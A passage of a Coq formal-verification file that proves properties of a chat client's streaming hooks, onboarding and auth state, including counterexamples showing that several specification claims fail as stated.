  bool_decide (SessionHook.agentKey m = None)
  || default false (SessionHook.isSynthesis m).

(** Effects of the session-based hook whose updates carry an agent key. *)
Definition keyed (e : SessionHook.Effect) : bool :=
  match e with
  | SessionHook.UpsertAgent m =>
      bool_decide (is_Some (SessionHook.agentKey m))
  | _ => true
  end.

(** The request an effect of the onboarding component posts, if any. *)
Definition posted (e : Onboarding.Effect) : option (jsstring * jsstring) :=
  match e with
  | Onboarding.Fetch sessionId message => Some (sessionId, message)
  | _ => None
  end.

(** The context an effect of the onboarding component hands to
    [onComplete], if it does. *)
Definition completed (e : Onboarding.Effect)
    : option (gmap jsstring jsstring) :=
  match e with
  | Onboarding.OnComplete ctx => Some ctx
  | _ => None
  end.

(** What follows the request in the trace of an accepted [sendMessage]. *)
Definition token_reply (parse : jsstring -> option SSEEvent)
    (net : FetchResult) : list TokenHook.Effect :=
  match net with
  | FetchRejects =>
      [TokenHook.AddMessage
         (TokenHook.plain TokenHook.assistant (Some TokenHook.connection_error))]
  | FetchResolves res =>
      (match res_session_header res with
       | Some s => if truthy s then [TokenHook.SetSessionId s] else []
       | None => []
       end)
      ++ match res_ok res, res_body res with
         | true, Some b =>
             read_loop (TokenHook.process_line parse) [] (body_chunks b)
             ++ (if body_read_rejects b
                 then [TokenHook.AddMessage
                         (TokenHook.plain TokenHook.assistant
                            (Some TokenHook.connection_error))]
                 else [])
         | _, _ =>
             [TokenHook.AddMessage
                (TokenHook.plain TokenHook.assistant
                   (Some TokenHook.error_connecting))]
         end
  end.

(** The messages the token-based hook shows for the events of a
    response: those of the [data: ] lines that were read whole, in the
    order of the lines; none when the body is never read. *)
Definition token_delivered (parse : jsstring -> option SSEEvent)
    (net : FetchResult) : list TokenHook.ChatMessage :=
  match net with
  | FetchRejects => []
  | FetchResolves res =>
      match res_ok res, res_body res with
      | true, Some b =>
          flat_map (fun e => omap Boardroom.added (TokenHook.dispatch e))
            (omap (data_event parse)
               (complete_lines (concat (body_chunks b))))
      | _, _ => []
      end
  end.

(** The text with which the token-based hook reports a request, if it
    failed: the text of the [catch] for a rejected [fetch] or read, the
    other for a response that is not [ok] or has no body. *)
Definition token_report (net : FetchResult) : option jsstring :=
  match net with
  | FetchRejects => Some TokenHook.connection_error
  | FetchResolves res =>
      match res_ok res, res_body res with
      | true, Some b =>
          if body_read_rejects b then Some TokenHook.connection_error
          else None
      | _, _ => Some TokenHook.error_connecting
      end
  end.

(** What follows the request in the trace of [sendMessage] of the
    session-based hook. *)
Definition session_reply (parse : jsstring -> option SSEEvent)
    (net : FetchResult) : list SessionHook.Effect :=
  match net with
  | FetchRejects => [SessionHook.ConsoleError]
  | FetchResolves res =>
      match res_body res with
      | Some b =>
          read_loop (SessionHook.process_line parse) [] (body_chunks b)
          ++ (if body_read_rejects b then [SessionHook.ConsoleError] else [])
      | None => [SessionHook.ConsoleError]
      end
  end.

(** The event an effect of the session-based hook hands to the callback,
    if it does. *)
Definition session_seen (e : SessionHook.Effect) : option SSEEvent :=
  match e with
  | SessionHook.OnEvent ev => Some ev
  | _ => None
  end.

(** What can happen to the voice hook: a press of the button, or the
    recorder delivering data. *)
Inductive VoiceEvent :=
  | Pressed (p : Voice.Press)
  | DataAvailable (data : Voice.Blob).

Definition voice_step (st : Voice.State) (e : VoiceEvent) : Voice.State :=
  match e with
  | Pressed p => fst (Voice.toggle p st)
  | DataAvailable data => Voice.ondataavailable data st
  end.

(** The transcription came to nothing: no key, or no answer. *)
Definition untranscribed (apiKey : option jsstring) (g : Voice.Gemini) : bool :=
  negb (truthy_opt apiKey)
  || match g with Voice.Answers _ => false | _ => true end.

(** The token in the state is the stored one, and a user is known only
    while a token is. *)
Definition auth_consistent (st : Auth.State) : Prop :=
  Auth.token st = Auth.storage st !! Auth.TOKEN_KEY
  /\ (Auth.isAuthenticated st = true -> is_Some (Auth.token st))
  /\ Auth.isLoading st = false.

(** Effects of the session-based hook as [sendMessage] issues them: what
    is appended has no agent key, what is stored as the answer of an agent
    has one and is no synthesis. *)
Definition well_keyed (e : SessionHook.Effect) : bool :=
  match e with
  | SessionHook.AppendMessage m => bool_decide (SessionHook.agentKey m = None)
  | SessionHook.UpsertAgent m =>
      bool_decide (is_Some (SessionHook.agentKey m))
      && negb (default false (SessionHook.isSynthesis m))
  | _ => true
  end.

(** The agent keys of the messages, in the order of the list. *)
Definition agent_keys (ms : list SessionHook.ChatMessage) : list jsstring :=
  omap SessionHook.agentKey ms.

(** No two messages carry the same agent key, and none that carries one
    is a synthesis. *)
Definition one_per_agent (ms : list SessionHook.ChatMessage) : Prop :=
  NoDup (agent_keys ms)
  /\ Forall (fun m => is_Some (SessionHook.agentKey m) ->
                      default false (SessionHook.isSynthesis m) = false) ms.

(** What the owner of the session-based hook does between two renders: it
    sends a text, under the session identifier of the render and with some
    outcome of the request, or it clears the messages. *)
Inductive SessionTurn :=
  | Send (sessionId text : jsstring) (net : FetchResult)
  | ClearMessages.

Definition session_turn (parse : jsstring -> option SSEEvent)
    (st : SessionHook.HookState) (t : SessionTurn) : SessionHook.HookState :=
  match t with
  | Send sessionId text net =>
      SessionHook.run st (SessionHook.sendMessage parse sessionId st text net)
  | ClearMessages =>
      {| SessionHook.messages := [];
         SessionHook.isStreaming := SessionHook.isStreaming st;
         SessionHook.abortRef := SessionHook.abortRef st |}
  end.

(** The state of the session-based hook at its first render. *)
Definition session_start : SessionHook.HookState :=
  {| SessionHook.messages := []; SessionHook.isStreaming := false;
     SessionHook.abortRef := false |}.

(** Code units with which no markdown construct starts: anything but
    [*], [#], [-], [<], the line feed and the decimal digits. *)
Definition prose_unit (c : N) : bool :=
  negb ((c =? 42) || (c =? 35) || (c =? 45) || (c =? 60) || (c =? 10)
        || Markdown.is_digit c).

(** * Properties *)

(** ** Lines are independent of how the stream is chunked *)
Section Lines.

Lemma split_nl_nonempty s : split_nl s <> [].
Proof.
  destruct s as [|c s]; simpl; [discriminate|].
  destruct (c =? newline); [discriminate|].
  destruct (split_nl s); discriminate.
Qed.

Lemma glue_nonempty r ls : glue r ls <> [].
Proof. destruct ls; discriminate. Qed.

Lemma removelast_cons_ne {A} (x : A) l :
  l <> [] -> List.removelast (x :: l) = x :: List.removelast l.
Proof. destruct l; [congruence | reflexivity]. Qed.

Lemma last_cons_ne {A} (x d : A) l :
  l <> [] -> List.last (x :: l) d = List.last l d.
Proof. destruct l; [congruence | reflexivity]. Qed.

Lemma split_nl_app a b :
  split_nl (a ++ b)
  = List.removelast (split_nl a) ++ glue (List.last (split_nl a) []) (split_nl b).
Proof.
  induction a as [|c a IH]; simpl.
  - pose proof (split_nl_nonempty b). destruct (split_nl b); [congruence|].
    reflexivity.
  - destruct (c =? newline).
    + rewrite IH.
      rewrite removelast_cons_ne, last_cons_ne by apply split_nl_nonempty.
      reflexivity.
    + rewrite IH. pose proof (split_nl_nonempty a) as Ha.
      destruct (split_nl a) as [|l0 ls0]; [congruence|].
      destruct ls0 as [|l1 ls1].
      * simpl. pose proof (split_nl_nonempty b).
        destruct (split_nl b); [congruence|]. reflexivity.
      * rewrite !removelast_cons_ne, !last_cons_ne by discriminate.
        reflexivity.
Qed.

Lemma split_nl_segments s : Forall (fun l => newline ∉ l) (split_nl s).
Proof.
  induction s as [|c s IH]; simpl.
  - constructor; [apply not_elem_of_nil | constructor].
  - destruct (N.eqb_spec c newline) as [->|Hc].
    + constructor; [apply not_elem_of_nil | exact IH].
    + destruct (split_nl s) as [|l ls].
      * constructor; [|constructor].
        intros Hin. apply list_elem_of_singleton in Hin. congruence.
      * inversion IH as [|? ? Hl Hls]; subst. constructor; [|exact Hls].
        intros Hin. apply elem_of_cons in Hin as [Heq|Hin]; [congruence|].
        exact (Hl Hin).
Qed.

Lemma split_nl_one r : newline ∉ r -> split_nl r = [r].
Proof.
  induction r as [|c r IH]; intros Hr; [reflexivity|]. simpl.
  destruct (N.eqb_spec c newline) as [->|Hc].
  - exfalso. apply Hr. left.
  - rewrite IH; [reflexivity|]. intros Hin. apply Hr. right. exact Hin.
Qed.

Lemma pending_no_newline s : newline ∉ pending s.
Proof.
  unfold pending, pop_lines; simpl.
  pose proof (split_nl_segments s) as Hall.
  pose proof (split_nl_nonempty s) as Hne.
  induction (split_nl s) as [|l ls IH]; [congruence|].
  inversion Hall as [|? ? Hl Hls]; subst.
  destruct ls as [|l' ls']; [exact Hl|].
  rewrite last_cons_ne by discriminate. apply IH; [exact Hls | discriminate].
Qed.

Lemma split_nl_pending_app a b :
  split_nl (pending a ++ b) = glue (pending a) (split_nl b).
Proof.
  rewrite split_nl_app, (split_nl_one (pending a)) by apply pending_no_newline.
  reflexivity.
Qed.

Lemma removelast_app_ne {A} (l l' : list A) :
  l' <> [] -> List.removelast (l ++ l') = l ++ List.removelast l'.
Proof. intros H. apply List.removelast_app. exact H. Qed.

Lemma last_app_ne {A} (l l' : list A) d :
  l' <> [] -> List.last (l ++ l') d = List.last l' d.
Proof.
  intros H. induction l as [|x l IH]; [reflexivity|].
  rewrite <- app_comm_cons, last_cons_ne; [exact IH|].
  destruct l; simpl; [exact H | discriminate].
Qed.

(** What one more piece of text adds to the lines seen so far. *)
Lemma complete_lines_app a b :
  complete_lines (a ++ b) = complete_lines a ++ complete_lines (pending a ++ b).
Proof.
  unfold complete_lines at 1 3, pop_lines; simpl.
  rewrite split_nl_pending_app, split_nl_app.
  rewrite removelast_app_ne by apply glue_nonempty. reflexivity.
Qed.

Lemma pending_app a b : pending (a ++ b) = pending (pending a ++ b).
Proof.
  unfold pending at 1 2, pop_lines; simpl.
  rewrite split_nl_pending_app, split_nl_app.
  rewrite last_app_ne by apply glue_nonempty. reflexivity.
Qed.

Lemma complete_lines_no_newline r : newline ∉ r -> complete_lines r = [].
Proof.
  intros Hr. unfold complete_lines, pop_lines; simpl.
  rewrite split_nl_one by exact Hr. reflexivity.
Qed.

Context {E : Type}.
Variable body : jsstring -> list E.

Lemma read_loop_lines chunks : forall buffer,
  newline ∉ buffer ->
  read_loop body buffer chunks
  = flat_map body (complete_lines (buffer ++ concat chunks)).
Proof.
  induction chunks as [|value chunks IH]; intros buffer Hbuf; simpl.
  - rewrite app_nil_r, complete_lines_no_newline by exact Hbuf. reflexivity.
  - rewrite app_assoc, complete_lines_app, flat_map_app.
    rewrite <- IH by apply pending_no_newline.
    reflexivity.
Qed.

Lemma read_loop_whole chunks :
  read_loop body [] chunks = flat_map body (complete_lines (concat chunks)).
Proof. apply (read_loop_lines chunks []), not_elem_of_nil. Qed.

End Lines.

(** ** The stream consumers of the two hooks *)





(** ** Dispatch on the event tag *)

Lemma has_type_true tag e :
  has_type tag e = true <-> ev_type e = Some (js tag).
Proof. unfold has_type. apply bool_decide_eq_true. Qed.

Lemma has_type_as tag tag' e :
  ev_type e = Some (js tag) ->
  has_type tag' e = bool_decide (js tag = js tag').
Proof.
  intros H. unfold has_type. rewrite H.
  apply bool_decide_ext. split; congruence.
Qed.

(** Decides the tag tests of a dispatch chain once the tag is known. *)
Ltac settle_tags H :=
  rewrite ?(has_type_as _ _ _ H);
  repeat match goal with
    | |- context [bool_decide (js ?a = js ?b)] =>
        let v := eval vm_compute in (bool_decide (js a = js b)) in
        change (bool_decide (js a = js b)) with v
    end.

Lemma token_dispatch_agent_response e :
  has_type "agent_response" e = true ->
  TokenHook.dispatch e = [TokenHook.AddMessage (TokenHook.agent_message e)].
Proof.
  intros H%has_type_true. unfold TokenHook.dispatch. settle_tags H.
  reflexivity.
Qed.

Lemma session_dispatch_agent_response e :
  has_type "agent_response" e = true ->
  truthy_opt (ev_agent e) = true ->
  SessionHook.dispatch e
  = [SessionHook.UpsertAgent (SessionHook.agent_message e)].
Proof.
  intros H%has_type_true Hk. unfold SessionHook.dispatch. settle_tags H.
  rewrite Hk. reflexivity.
Qed.

Lemma findIndex_none {A} (p : A -> bool) l :
  Forall (fun x => p x = false) l -> SessionHook.findIndex p l = None.
Proof.
  induction 1 as [|x l Hx _ IH]; simpl; [reflexivity|].
  rewrite Hx, IH. reflexivity.
Qed.

Lemma upsert_fresh m prev :
  Forall (fun x => SessionHook.same_agent (SessionHook.agentKey m) x = false) prev ->
  SessionHook.upsert m prev = prev ++ [m].
Proof.
  intros H. unfold SessionHook.upsert. rewrite findIndex_none by exact H.
  reflexivity.
Qed.

Lemma token_agent_responses evs : forall st,
  Forall (fun e => has_type "agent_response" e = true) evs ->
  TokenHook.messages (TokenHook.run st (flat_map TokenHook.handle_event evs))
  = TokenHook.messages st ++ map TokenHook.agent_message evs.
Proof.
  induction evs as [|e evs IH]; intros st Hall; simpl.
  - rewrite app_nil_r. reflexivity.
  - inversion Hall as [|? ? He Hevs]; subst.
    rewrite token_dispatch_agent_response by exact He.
    unfold TokenHook.run in *. simpl. rewrite IH by exact Hevs. simpl.
    rewrite <- app_assoc. reflexivity.
Qed.

Lemma session_agent_responses evs : forall st,
  Forall (fun e => has_type "agent_response" e = true) evs ->
  Forall (fun e => truthy_opt (ev_agent e) = true) evs ->
  NoDup (map ev_agent evs) ->
  Forall (fun e =>
            Forall (fun m => SessionHook.same_agent (ev_agent e) m = false)
                   (SessionHook.messages st)) evs ->
  SessionHook.messages
    (SessionHook.run st (flat_map SessionHook.handle_event evs))
  = SessionHook.messages st ++ map SessionHook.agent_message evs.
Proof.
  induction evs as [|e evs IH]; intros st Hty Hkey Hnd Hfresh; simpl.
  - rewrite app_nil_r. reflexivity.
  - inversion Hty as [|? ? He Hty']; subst.
    inversion Hkey as [|? ? Hk Hkey']; subst.
    inversion Hfresh as [|? ? Hf Hfresh']; subst.
    apply NoDup_cons in Hnd as [Hnotin Hnd'].
    rewrite session_dispatch_agent_response by assumption.
    unfold SessionHook.run in *. simpl.
    rewrite upsert_fresh by exact Hf.
    rewrite IH; try assumption.
    + simpl. rewrite <- app_assoc. reflexivity.
    + simpl. apply Forall_forall. intros e' He'.
      apply Forall_app. split.
      * rewrite Forall_forall in Hfresh'. apply Hfresh'. exact He'.
      * constructor; [|constructor].
        unfold SessionHook.same_agent. simpl.
        rewrite bool_decide_eq_false_2; [reflexivity|].
        intros Heq. apply Hnotin. rewrite Heq.
        apply list_elem_of_fmap_2. exact He'.
Qed.

(** ** Agent responses in the message list *)

(** C7, amended. For a sequence of [agent_response] events the token-based
    hook appends one assistant message per event, in arrival order; the
    session-based hook does so when the agent keys are non-empty and
    pairwise distinct and no message already in the list is a
    non-synthesis message of one of these agents. *)
Theorem agent_responses_render_in_arrival_order (evs : list SSEEvent) :
  Forall (fun e => has_type "agent_response" e = true) evs ->
  (forall st,
      TokenHook.messages
        (TokenHook.run st (flat_map TokenHook.handle_event evs))
      = TokenHook.messages st ++ map TokenHook.agent_message evs)
  /\ (forall st,
        Forall (fun e => truthy_opt (ev_agent e) = true) evs ->
        NoDup (map ev_agent evs) ->
        Forall (fun e =>
                  Forall (fun m => SessionHook.same_agent (ev_agent e) m = false)
                         (SessionHook.messages st)) evs ->
        SessionHook.messages
          (SessionHook.run st (flat_map SessionHook.handle_event evs))
        = SessionHook.messages st ++ map SessionHook.agent_message evs).
Proof.
  intros Hty. split; intros st.
  - apply token_agent_responses, Hty.
  - intros Hkey Hnd Hfresh. apply session_agent_responses; assumption.
Qed.

Lemma agent_responses_render_in_arrival_order_witness :
  let st := {| SessionHook.messages :=
                 [SessionHook.plain SessionHook.user (js "should we raise?")];
               SessionHook.isStreaming := true;
               SessionHook.abortRef := true |} in
  let evs := [agent_event "CFO" "not yet"; agent_event "CEO" "yes"] in
  SessionHook.messages
    (SessionHook.run st (flat_map SessionHook.handle_event evs))
  = [SessionHook.plain SessionHook.user (js "should we raise?");
     SessionHook.agent_message (agent_event "CFO" "not yet");
     SessionHook.agent_message (agent_event "CEO" "yes")].
Proof.
  intros st evs.
  assert (Hty : Forall (fun e => has_type "agent_response" e = true) evs)
    by (repeat constructor).
  destruct (agent_responses_render_in_arrival_order evs Hty) as [_ Hsession].
  apply (Hsession st).
  - repeat constructor.
  - refine (bool_decide_unpack _ _). vm_compute. exact I.
  - repeat constructor.
Defined.

(** C7 as stated fails in the session-based hook. After a first question
    answered by the CEO and then the CFO, a second question is answered by
    the CFO first: both answers overwrite those of the first run in place,
    above the second question and in the order of the first run. *)
Lemma session_hook_overwrites_earlier_answers :
  let st := {| SessionHook.messages :=
                 [SessionHook.plain SessionHook.user (js "should we raise?");
                  SessionHook.agent_message (agent_event "CEO" "old");
                  SessionHook.agent_message (agent_event "CFO" "old");
                  SessionHook.plain SessionHook.user (js "and when?")];
               SessionHook.isStreaming := true;
               SessionHook.abortRef := true |} in
  let evs := [agent_event "CFO" "new"; agent_event "CEO" "new"] in
  Forall (fun e => has_type "agent_response" e = true) evs
  /\ NoDup (map ev_agent evs)
  /\ SessionHook.messages
       (SessionHook.run st (flat_map SessionHook.handle_event evs))
     = [SessionHook.plain SessionHook.user (js "should we raise?");
        SessionHook.agent_message (agent_event "CEO" "new");
        SessionHook.agent_message (agent_event "CFO" "new");
        SessionHook.plain SessionHook.user (js "and when?")]
  /\ SessionHook.messages
       (SessionHook.run st (flat_map SessionHook.handle_event evs))
     <> SessionHook.messages st ++ map SessionHook.agent_message evs.
Proof.
  intros st evs. split; [|split; [|split]].
  - repeat constructor.
  - refine (bool_decide_unpack _ _). vm_compute. exact I.
  - vm_compute. reflexivity.
  - vm_compute. discriminate.
Qed.

(** ** The guard of [sendMessage] *)

Lemma token_sendMessage_opens parse token st text net :
  accepted token st text = true ->
  take 3 (TokenHook.sendMessage parse token st text net)
  = [TokenHook.AddMessage (TokenHook.plain TokenHook.user (Some text));
     TokenHook.SetIsStreaming true;
     TokenHook.Fetch
       {| TokenHook.req_bearer := default [] token;
          TokenHook.req_message := text;
          TokenHook.req_session_id := TokenHook.sessionId st |}].
Proof.
  unfold accepted, TokenHook.sendMessage. intros H.
  apply andb_true_iff in H as [H Htoken].
  apply andb_true_iff in H as [Htext Hidle].
  apply negb_true_iff in Hidle. rewrite Htext, Hidle, Htoken. reflexivity.
Qed.

(** C8, amended. [sendMessage] tests the [isStreaming] of the render its
    closure belongs to.  Called from a render in which a stream is in
    progress it does nothing at all, in either hook; the token-based hook
    also does nothing for a blank text or without a token; the
    session-based hook, idle and given a blank text, adds no user message
    but still raises the streaming flag, issues the request and consumes
    the answer.  The guard does not keep runs apart by itself: a closure of
    an idle render that is called once a run has raised the flag (as the
    transcript callback of the voice hook can be) issues its request all
    the same, where the closure of the current render would refuse. *)
Theorem sendMessage_guard (parse : jsstring -> option SSEEvent)
    (text : jsstring) (net : FetchResult) :
  (forall token st,
      TokenHook.isStreaming st = true \/ truthy (trim text) = false
      \/ truthy_opt token = false ->
      TokenHook.sendMessage parse token st text net = [])
  /\ (forall sessionId st,
        SessionHook.isStreaming st = true ->
        SessionHook.sendMessage parse sessionId st text net = [])
  /\ (forall sessionId st,
        SessionHook.isStreaming st = false ->
        truthy (trim text) = false ->
        SessionHook.sendMessage parse sessionId st text net
        = [SessionHook.SetIsStreaming true; SessionHook.SetAbortRef true;
           SessionHook.Fetch
             {| SessionHook.req_session_header := sessionId;
                SessionHook.req_message := text |}]
          ++ session_reply parse net
          ++ [SessionHook.SetIsStreaming false; SessionHook.SetAbortRef false])
  /\ (forall token st text' net',
        accepted token st text = true ->
        accepted token st text' = true ->
        let busy :=
          TokenHook.run st
            (take 3 (TokenHook.sendMessage parse token st text net)) in
        TokenHook.isStreaming busy = true
        /\ TokenHook.sendMessage parse token busy text' net' = []
        /\ take 3 (TokenHook.sendMessage parse token st text' net')
           = [TokenHook.AddMessage
                (TokenHook.plain TokenHook.user (Some text'));
              TokenHook.SetIsStreaming true;
              TokenHook.Fetch
                {| TokenHook.req_bearer := default [] token;
                   TokenHook.req_message := text';
                   TokenHook.req_session_id := TokenHook.sessionId st |}]).
Proof.
  split; [|split; [|split]].
  - intros token st H. unfold TokenHook.sendMessage.
    destruct H as [-> | [-> | ->]]; simpl;
      rewrite ?orb_true_r; reflexivity.
  - intros sessionId st H. unfold SessionHook.sendMessage. rewrite H.
    reflexivity.
  - intros sessionId st Hidle Hblank.
    unfold SessionHook.sendMessage, session_reply.
    rewrite Hidle, Hblank. reflexivity.
  - intros token st text' net' Hfirst Hsecond busy. subst busy.
    rewrite (token_sendMessage_opens parse token st text net Hfirst).
    split; [reflexivity|]. split.
    + unfold TokenHook.sendMessage. simpl. rewrite orb_true_r. reflexivity.
    + apply token_sendMessage_opens, Hsecond.
Qed.

Lemma sendMessage_guard_witness :
  let idle := {| TokenHook.messages := []; TokenHook.isStreaming := false;
                 TokenHook.sessionId := None |} in
  TokenHook.sendMessage toy_parse (Some (js "jwt")) idle (js "   ")
    FetchRejects = []
  /\ SessionHook.sendMessage toy_parse (js "s1")
       {| SessionHook.messages := []; SessionHook.isStreaming := true;
          SessionHook.abortRef := true |} (js "hello") FetchRejects = []
  /\ accepted (Some (js "jwt")) idle (js "hello") = true
  /\ accepted (Some (js "jwt")) idle (js "raise now") = true
  /\ take 3 (TokenHook.sendMessage toy_parse (Some (js "jwt")) idle
               (js "raise now") FetchRejects)
     = [TokenHook.AddMessage
          (TokenHook.plain TokenHook.user (Some (js "raise now")));
        TokenHook.SetIsStreaming true;
        TokenHook.Fetch
          {| TokenHook.req_bearer := js "jwt";
             TokenHook.req_message := js "raise now";
             TokenHook.req_session_id := None |}].
Proof.
  intros idle. split; [|split; [|split; [|split]]].
  - apply (proj1 (sendMessage_guard toy_parse (js "   ") FetchRejects)).
    right. left. reflexivity.
  - apply (proj1 (proj2 (sendMessage_guard toy_parse (js "hello") FetchRejects))).
    reflexivity.
  - reflexivity.
  - reflexivity.
  - apply (proj2 (proj2 (proj2 (sendMessage_guard toy_parse (js "hello")
                                  FetchRejects)))
             (Some (js "jwt")) idle (js "raise now") FetchRejects);
      reflexivity.
Defined.

(** C8 as stated fails twice.  In the session-based hook a blank text
    sent while no stream is in progress raises the streaming flag and
    reaches the network.  In the token-based hook two calls of the closure
    of one idle render both issue a request, the second while the first has
    raised the flag: two runs are in flight. *)
Lemma guard_misses_blank_texts_and_stale_closures :
  let idle := {| SessionHook.messages := []; SessionHook.isStreaming := false;
                 SessionHook.abortRef := false |} in
  let rendered := {| TokenHook.messages := []; TokenHook.isStreaming := false;
                     TokenHook.sessionId := None |} in
  let first := TokenHook.sendMessage toy_parse (Some (js "jwt")) rendered
                 (js "should we raise?") FetchRejects in
  let second := TokenHook.sendMessage toy_parse (Some (js "jwt")) rendered
                  (js "and when?") FetchRejects in
  (truthy (trim (js "   ")) = false
   /\ SessionHook.sendMessage toy_parse (js "s1") idle (js "   ") FetchRejects
      = [SessionHook.SetIsStreaming true; SessionHook.SetAbortRef true;
         SessionHook.Fetch {| SessionHook.req_session_header := js "s1";
                              SessionHook.req_message := js "   " |};
         SessionHook.ConsoleError;
         SessionHook.SetIsStreaming false; SessionHook.SetAbortRef false]
   /\ SessionHook.isStreaming
        (SessionHook.run idle
           [SessionHook.SetIsStreaming true; SessionHook.SetAbortRef true])
      = true)
  /\ (TokenHook.isStreaming (TokenHook.run rendered (take 3 first)) = true
      /\ omap requested first
         = [{| TokenHook.req_bearer := js "jwt";
               TokenHook.req_message := js "should we raise?";
               TokenHook.req_session_id := None |}]
      /\ omap requested second
         = [{| TokenHook.req_bearer := js "jwt";
               TokenHook.req_message := js "and when?";
               TokenHook.req_session_id := None |}]).
Proof.
  intros idle rendered first second. repeat split; vm_compute; reflexivity.
Qed.

(** ** The tags the clients know *)

(** Closes a decidable statement about concrete strings. *)
Ltac by_computation := refine (bool_decide_unpack _ _); vm_compute; exact I.

Lemma token_dispatch_tag e :
  TokenHook.dispatch e <> [] ->
  exists tag, tag ∈ ChatEvent_tags /\ ev_type e = Some tag.
Proof.
  unfold TokenHook.dispatch. intros H.
  destruct (has_type "orchestration" e) eqn:H1;
    [apply has_type_true in H1; eexists; split; [|exact H1]; by_computation|].
  destruct (has_type "routing" e) eqn:H2;
    [apply has_type_true in H2; eexists; split; [|exact H2]; by_computation|].
  destruct (has_type "agent_response" e) eqn:H3;
    [apply has_type_true in H3; eexists; split; [|exact H3]; by_computation|].
  destruct (has_type "synthesis" e) eqn:H4;
    [apply has_type_true in H4; eexists; split; [|exact H4]; by_computation|].
  congruence.
Qed.

Lemma session_dispatch_tag e :
  SessionHook.dispatch e <> [] ->
  exists tag, tag ∈ ChatEvent_tags /\ ev_type e = Some tag.
Proof.
  unfold SessionHook.dispatch. intros H.
  destruct (has_type "routing" e) eqn:H1;
    [apply has_type_true in H1; eexists; split; [|exact H1]; by_computation|].
  destruct (has_type "agent_response" e) eqn:H2;
    [apply has_type_true in H2; eexists; split; [|exact H2]; by_computation|].
  destruct (has_type "synthesis" e) eqn:H3;
    [apply has_type_true in H3; eexists; split; [|exact H3]; by_computation|].
  destruct (has_type "onboarding_question" e) eqn:H4;
    [apply has_type_true in H4; eexists; split; [|exact H4]; by_computation|].
  destruct (has_type "onboarding_complete" e) eqn:H5;
    [apply has_type_true in H5; eexists; split; [|exact H5]; by_computation|].
  simpl in H. congruence.
Qed.

Lemma onboarding_line_tag parse ctx line :
  fst (Onboarding.on_line parse ctx line) <> [] ->
  exists e tag,
    parse (slice 6 line) = Some e /\ tag ∈ ChatEvent_tags /\ ev_type e = Some tag.
Proof.
  unfold Onboarding.on_line. intros H.
  destruct (startsWith _ line); [|simpl in H; congruence].
  destruct (parse (slice 6 line)) as [e|]; [|simpl in H; congruence].
  exists e.
  destruct (has_type "onboarding_question" e) eqn:H1;
    [apply has_type_true in H1; eexists; split; [reflexivity|];
     split; [|exact H1]; by_computation|].
  destruct (has_type "onboarding_complete" e) eqn:H2;
    [apply has_type_true in H2; eexists; split; [reflexivity|];
     split; [|exact H2]; by_computation|].
  simpl in H. congruence.
Qed.

(** C3, amended. The event type the session-based hook declares is a
    closed union of nine tags: the eight of the specification without
    [orchestration], and [agent_reasoning] and [synthesis_start] besides.
    The token-based hook reads untyped records.  In both hooks and in the
    onboarding component, an event makes the consumer act only if its tag
    is one of the eight. *)
Theorem client_event_tags :
  (forall t : SessionHook.SSEEventType, t ∈ SessionHook.all_SSEEventType)
  /\ map SessionHook.tag_name SessionHook.all_SSEEventType
     = [js "routing"; js "agent_reasoning"; js "agent_response";
        js "synthesis_start"; js "synthesis"; js "onboarding_question";
        js "onboarding_complete"; js "done"; js "error"]
  /\ (forall e,
        TokenHook.dispatch e <> [] \/ SessionHook.dispatch e <> [] ->
        exists tag, tag ∈ ChatEvent_tags /\ ev_type e = Some tag)
  /\ (forall parse ctx line,
        fst (Onboarding.on_line parse ctx line) <> [] ->
        exists e tag,
          parse (slice 6 line) = Some e
          /\ tag ∈ ChatEvent_tags /\ ev_type e = Some tag).
Proof.
  split; [|split; [|split]].
  - intros []; repeat constructor.
  - reflexivity.
  - intros e [H|H]; [apply token_dispatch_tag | apply session_dispatch_tag];
      exact H.
  - apply onboarding_line_tag.
Qed.

Lemma client_event_tags_witness :
  exists tag,
    tag ∈ ChatEvent_tags /\ ev_type (agent_event "CEO" "yes") = Some tag.
Proof.
  destruct client_event_tags as (_ & _ & Hdispatch & _).
  apply Hdispatch. left. vm_compute. discriminate.
Defined.

(** C3 as stated fails: two members of the declared union are not among
    the eight tags, and [orchestration] is not a member of the union. *)
Lemma declared_union_is_not_the_eight_tags :
  (SessionHook.tag_name SessionHook.agent_reasoning ∉ ChatEvent_tags)
  /\ (SessionHook.tag_name SessionHook.synthesis_start ∉ ChatEvent_tags)
  /\ (js "orchestration"
        ∉ map SessionHook.tag_name SessionHook.all_SSEEventType).
Proof. repeat split; by_computation. Qed.

(** ** Answers collected by the onboarding component *)

Lemma on_line_keeps_answers parse ctx line :
  forallb Onboarding.keeps_answers (fst (Onboarding.on_line parse ctx line)) = true.
Proof.
  unfold Onboarding.on_line.
  destruct (startsWith _ line); [|reflexivity].
  destruct (parse _) as [e|]; [|reflexivity].
  destruct (has_type "onboarding_question" e), (ev_question e),
    (has_type "onboarding_complete" e); reflexivity.
Qed.

Lemma for_lines_keeps_answers parse ctx lines :
  forallb Onboarding.keeps_answers (fst (Onboarding.for_lines parse ctx lines)) = true.
Proof.
  induction lines as [|line lines IH]; simpl; [reflexivity|].
  pose proof (on_line_keeps_answers parse ctx line) as H.
  destruct (Onboarding.on_line parse ctx line) as [es returned].
  destruct returned; [exact H|].
  destruct (Onboarding.for_lines parse ctx lines) as [es' returned'].
  simpl in *. rewrite forallb_app, H, IH. reflexivity.
Qed.

Lemma while_read_keeps_answers parse ctx chunks : forall buf,
  forallb Onboarding.keeps_answers (Onboarding.while_read parse ctx buf chunks) = true.
Proof.
  induction chunks as [|chunk chunks IH]; intros buf; simpl; [reflexivity|].
  match goal with |- context [Onboarding.for_lines parse ctx ?lines] =>
    pose proof (for_lines_keeps_answers parse ctx lines) as H;
    destruct (Onboarding.for_lines parse ctx lines) as [es returned]
  end.
  destruct returned; [exact H|].
  simpl in H. rewrite forallb_app, H, IH. reflexivity.
Qed.

Lemma run_keeps_answers es : forall st,
  forallb Onboarding.keeps_answers es = true ->
  Onboarding.context (Onboarding.run st es) = Onboarding.context st
  /\ Onboarding.history (Onboarding.run st es) = Onboarding.history st.
Proof.
  induction es as [|e es IH]; intros st H; [split; reflexivity|].
  simpl in H. apply andb_true_iff in H as [He Hes].
  unfold Onboarding.run in *. simpl.
  destruct (IH (Onboarding.apply st e) Hes) as [-> ->].
  destruct e; simpl in *; try discriminate; split; reflexivity.
Qed.

Lemma received_keeps_answers parse ctx net :
  forallb Onboarding.keeps_answers
    (match net with
     | FetchRejects => []
     | FetchResolves res =>
         match res_body res with
         | Some b => Onboarding.while_read parse ctx [] (body_chunks b)
         | None => []
         end
     end) = true.
Proof.
  destruct net as [|res]; [reflexivity|].
